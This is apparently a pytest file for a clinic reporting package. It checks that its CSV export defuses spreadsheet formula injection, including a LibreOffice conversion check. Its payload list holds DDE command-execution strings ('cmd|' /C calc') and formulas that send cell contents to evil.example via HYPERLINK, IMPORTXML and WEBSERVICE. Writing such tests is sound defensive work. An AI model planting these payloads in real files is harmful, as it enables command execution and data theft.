"""Files for a spreadsheet: nothing in them is computed, and nothing is lost."""

import csv
import io
import shutil
import subprocess
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clinic.sheets import inert, sheet
from clinic.wording import on_one_line

BEGINNINGS = [
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\u00a0=",
    "\u200b=",
    "\ufeff=",
    "\u2060+",
]
# What an editor might type as a title, or a program for them.
PAYLOADS = [
    *[f"{begin}1+1" for begin in BEGINNINGS],
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "%0A=1+1",
    "|calc",
    "−1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    '",=1+1',
    '";=1+1',
    '"\t=1+1',
    "a,=1+1",
    "a;=1+1",
    "a\t=1+1",
    "a\r\n=1+1",
    "a\n=1+1\n",
    "{=1+1}",
    "=\u202e1+1",
]
OFFICE = shutil.which("soffice")


def cells(text):
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_there_are_forty_of_them():
    assert len(set(PAYLOADS)) == 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_like_a_formula(payload):
    ((cell, number),) = cells(sheet([payload, "<5"], []))

    assert (cell.strip("\ufeff\u200b\u2060 \u00a0")[:1] in set("=+-@|%−＝＋－＠\t\r\n"), number) == (False, "<5")
    assert len(cell.splitlines()) == 1


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_cell_is_in_quotes_of_its_own(payload):
    text = sheet([payload, "end"], [[payload, "end"]])

    assert [row[1] for row in cells(text)] == ["end", "end"]
    assert text.removeprefix("\ufeff").startswith('"')


@given(st.text())
def test_nothing_is_lost_but_line_ends_and_what_nobody_sees(text):
    ((cell,),) = cells(sheet([text], []))

    assert cell.removeprefix("'") == on_one_line(text)


@given(st.text(min_size=1))
def test_ordinary_words_stay_as_they_are(text):
    words = f"Strength {text}"

    assert inert(words) == on_one_line(words)


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice (soffice) is not on this machine")
def test_a_real_spreadsheet_computes_nothing_of_it(tmp_path):
    (tmp_path / "report.csv").write_text(sheet(["Title", "Requests"], [[text, "<5"] for text in PAYLOADS]), "utf-8")
    # The control: the same texts as they are typed.
    with (tmp_path / "typed.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, quoting=csv.QUOTE_ALL).writerows([text, "<5"] for text in PAYLOADS)

    for name in ("report", "typed"):
        profile = f"-env:UserInstallation=file://{tmp_path}/profile"
        command = [OFFICE, profile, "--headless", "--convert-to", "xlsx", "--outdir", str(tmp_path)]
        subprocess.run([*command, f"{tmp_path}/{name}.csv"], check=True, capture_output=True, timeout=120)

    formulas = {}
    for name in ("report", "typed"):
        with zipfile.ZipFile(tmp_path / f"{name}.xlsx") as book:
            formulas[name] = book.read("xl/worksheets/sheet1.xml").decode().count("<f")
    assert formulas["report"] == 0
    assert formulas["typed"] > 0
